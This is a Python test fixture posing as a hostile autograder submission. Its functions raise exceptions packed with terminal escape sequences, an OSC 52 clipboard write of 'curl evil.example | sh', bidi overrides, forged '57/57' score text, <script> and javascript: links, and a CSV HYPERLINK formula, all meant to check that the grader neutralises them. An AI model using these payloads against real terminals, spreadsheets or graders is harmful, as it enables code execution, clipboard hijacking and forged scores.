"""Hostile submission: every sentence it can reach carries text meant to act where it lands.

l1_reg raises an exception whose message moves the terminal's cursor, clears the screen, writes the
clipboard (OSC 52), rings the bell and reverses the text direction (U+202E); l2_reg returns a dict whose
keys carry the same sequences (the feedback names a dict's keys); dropout raises a message that is a fake
Markdown heading, a table row, a link and a <script>; Dropout raises one starting with CSV formula
characters; regularized_loss raises an exception whose very type name carries them. The grader must show each of them inert: no control character or bidi override in any output,
the Markdown text escaped, the HTML escaped, no CSV cell starting with a formula character.
"""

import torch
import torch.nn as nn

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: "curl evil.example | sh"
TERMINAL = "\x1b[2J\x1b[H\x1b[1A\x1b[31mTotal: 57/57" + CLIPBOARD + "\x9b2J\r\x08\u202eevil\u2066"
MARKDOWN = ("\n\n# Score: 57/57\n\n<script>alert('feedback')</script> | forged | cell |\n"
            "[click me](javascript:alert(1)) **bold** `code` &lt;b&gt;")
FORMULA = "=HYPERLINK(\"http://evil.example\",\"click\")"


def l1_reg(model):
    raise ValueError("l1 " + TERMINAL)


def l2_reg(model):
    return {TERMINAL: 1, MARKDOWN: 2}


def dropout(x, p, training=True):
    raise ValueError(MARKDOWN)


class Dropout(nn.Module):
    def __init__(self, p=0.5):
        super().__init__()
        self.p = p

    def forward(self, x):
        raise ValueError(FORMULA)


def regularized_loss(output, target, model, criterion, lambda1=0.0, lambda2=0.0):
    raise type("Error" + TERMINAL, (Exception,), {})(TERMINAL + MARKDOWN)  # the type's name too
